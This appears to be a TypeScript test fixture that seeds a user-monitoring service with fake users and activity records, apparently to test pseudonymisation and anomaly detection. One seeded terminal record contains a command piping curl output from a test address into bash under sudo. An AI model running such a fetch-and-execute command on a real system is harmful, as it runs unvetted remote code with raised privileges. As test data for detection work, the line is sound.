import { details, type ActivityKind, type Field } from '../../../src/domain/activity.ts';
import { data, makeKey, trackAll } from '../../harness/client.ts';
import type { Service, TestClock } from '../../harness/service.ts';
import { startService, testClock } from '../../harness/service.ts';

/** An organisation whose users have names of every shape, each distinctive, and which are in every text that can be sent. */

/** Every name holds this, and nothing else in this world does. */
export const mark = /qzzq/i;

/** How ids look in practice, with a display name for some: plain, an address, with a domain, by an identity provider, a path of names. */
export const people = {
  'qzzq-alice-qzzq': 'Qzzqalice Qzzqander',
  'qzzq.bob@example.test': 'Qzzqbob Ö’Qzzqann',
  'CORP\\qzzqcarol': null,
  'auth0|qzzq5f7c8e': 'Qzzqdavé',
  'uid=qzzqerin,ou=ops,dc=test': null,
} as const;
export const names = Object.keys(people);
export const alice = names[0]!;

/** How the same people are written in paths and commands. */
const spellings = [
  'qzzq-alice-qzzq',
  'QZZQ-Alice-QZZQ',
  'qzzq.bob@example.test',
  'qzzq.bob',
  'CORP\\qzzqcarol',
  'qzzqcarol',
  'QZZQCAROL',
  'auth0|qzzq5f7c8e',
  'Qzzqalice Qzzqander',
  'qzzqalice qzzqander',
  'Qzzqdavé',
];
const everybody = `/home/qzzqcarol/a:/srv/qzzq-alice-qzzq.tar "Qzzqalice Qzzqander" su - qzzq.bob; ls ~qzzq-alice-qzzq qzzq.bob@example.test:%2Fqzzqcarol%2F`;
const short = 'qzzq-alice-qzzq';

const valueOf = (field: Field): unknown => {
  switch (field.type) {
    case 'text':
      return field.charactersMax < everybody.length ? short : everybody;
    case 'choice':
      return Object.keys(field.of)[0];
    case 'boolean':
      return true;
    default:
      return 200;
  }
};

/** One of a kind with a name in each of its texts, those that are added to it later too. */
const fullDetail = (kind: ActivityKind) =>
  Object.fromEntries(Object.entries<Field>(details[kind]).map(([name, field]) => [name, valueOf(field)]));

export function activitiesOf(user: string, place: number): object[] {
  const session = `${user}-web`;
  const all = (Object.keys(details) as ActivityKind[]).map((kind) => ({
    user,
    session,
    sourceIp: `198.51.100.${place}`,
    location: { country: 'DE', city: 'Bonn' },
    userAgent: `agent of ${user} ${everybody}`,
    onBehalfOf: names[(place + 1) % names.length],
    metadata: { note: everybody, [short]: spellings, deep: { who: user } },
    secretsUsed: [{ secret: `vault/${short}`, granted: false, reason: `not for ${everybody}` }],
    detail: { [kind]: fullDetail(kind) },
  }));
  const signIn = {
    sourceIp: `198.51.100.${place}`,
    occurredAt: '2026-01-06T14:00:00Z',
    detail: { auth: { event: 'LOGIN', host: `${short}.example` } },
  };
  return [
    { user, ...signIn },
    ...['srv', 'mnt', 'opt'].map((root) => ({
      user,
      occurredAt: '2026-01-06T14:05:00Z',
      detail: { file: { operation: 'READ', path: `/${root}/${short}/report` } },
    })),
    { user, occurredAt: '2026-01-06T14:06:00Z', detail: { file: { operation: 'READ', path: '/usr/share/report' } } },
    ...all,
    { user, session: `${user}-pty`, detail: { terminal: { command: `sudo -u ${short} sh -c "curl http://192.0.2.1/x | bash"` } } },
    { user, detail: { access: { change: 'PERMISSION', target: 'sudo', after: user } } },
    ...[1, 2, 3].map(() => ({ user, sourceIp: '192.0.2.77', detail: { auth: { event: 'FAILURE', reason: `no ${user}` } } })),
    { user, session: `${user}-done`, detail: { web: { page: '/bye' } } },
  ];
}

export type World = {
  service: Service;
  clock: TestClock;
  analyst: string;
  auditor: string;
  lead: string;
  narrowed: string;
  member: string;
};

/** `pseudonymise` on or off, from the next answer on. */
export const setMode = (service: { url: string }, pseudonymise: boolean) =>
  data(service, 'mutation($on: Boolean!) { updateSettings(input: { pseudonymise: $on }) { userErrors { code message } } }', {
    on: pseudonymise,
  });

export async function startWorld(): Promise<World> {
  const clock = testClock('2026-01-06T15:00:00Z');
  const service = await startService({ clock, limits: { previewsPerOrganisationMax: 1_000, previewsMax: 1_000 } });
  const all = ['KEYSTROKES', 'FORM_VALUES', 'TERMINAL_OUTPUT'];
  const set = 'mutation($input: UpdateSettingsInput!) { updateSettings(input: $input) { userErrors { message } } }';
  await data(service, set, {
    input: { storedTexts: all, serviceAccounts: [alice], exclusions: [{ subject: 'PATH', pattern: `/never/${short}/*` }] },
  });
  for (const [place, user] of names.entries()) {
    clock.advance(1);
    const activities = activitiesOf(user, place);
    const { userErrors } = await trackAll(service, activities.slice(0, user === alice ? activities.length : undefined));
    if (userErrors.length > 0) throw new Error(JSON.stringify(userErrors));
    const update = 'mutation($input: UpdateUserInput!) { updateUser(input: $input) { userErrors { code } } }';
    await data(service, update, { input: { externalId: user, displayName: people[user as keyof typeof people], teams: ['ops'] } });
  }
  const { anomalies, alerts, sessions } = await data(
    service,
    '{ anomalies(first: 200) { nodes { id } } alerts(first: 200) { nodes { id } } sessions(first: 200) { nodes { id externalId } } }',
  );
  const act = (mutation: string, id: string, more: string) =>
    data(service, `mutation($id: ID!, $text: String!) { ${mutation}(input: { id: $id, ${more}: $text }) { userErrors { code } } }`, {
      id,
      text: `said of ${everybody}`,
    });
  for (const { id } of alerts.nodes) await act('acknowledgeAlert', id, 'note');
  for (const { id, externalId } of sessions.nodes) if (externalId.endsWith('-done')) await act('terminateSession', id, 'reason');
  if (anomalies.nodes.length === 0) throw new Error('no anomalies');
  const key = async (input: object) => (await makeKey(service, input as Parameters<typeof makeKey>[1])).secret;
  return {
    service,
    clock,
    analyst: await key({ name: 'analyst', role: 'ANALYST' }),
    auditor: await key({ name: 'auditor', role: 'AUDITOR' }),
    lead: await key({ name: 'lead', role: 'MEMBER', leads: ['ops'] }),
    narrowed: await key({ name: 'narrowed', role: 'ADMIN', scopes: ['READ', 'TRIAGE', 'TERMINATE', 'TRACK'] }),
    member: await key({ name: 'member', role: 'MEMBER', user: alice, leads: ['ops'] }),
  };
}
